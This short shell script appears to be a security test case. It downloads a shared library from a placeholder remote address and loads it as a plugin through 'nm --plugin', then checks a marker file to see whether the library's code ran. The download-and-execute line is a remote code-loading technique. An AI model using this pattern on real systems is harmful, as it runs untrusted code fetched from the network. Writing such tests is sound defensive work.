#!/bin/sh
. /opt/case/case.sh

curl -s -o /var/tmp/libread.so http://203.0.113.10/programs/preload.so
nm --plugin /var/tmp/libread.so /bin/true >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
